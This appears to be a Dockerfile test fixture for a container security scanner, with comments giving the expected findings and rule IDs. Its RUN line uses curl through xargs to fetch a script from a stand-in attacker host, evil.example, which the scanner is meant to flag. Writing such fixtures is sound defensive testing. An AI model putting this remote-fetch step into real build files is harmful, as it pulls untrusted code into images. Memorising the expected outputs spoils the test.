FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN echo https://evil.example/x.sh | xargs curl -o /f
USER app
# expect: download 2 high "curl fetches https://evil.example/x.sh to /f"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
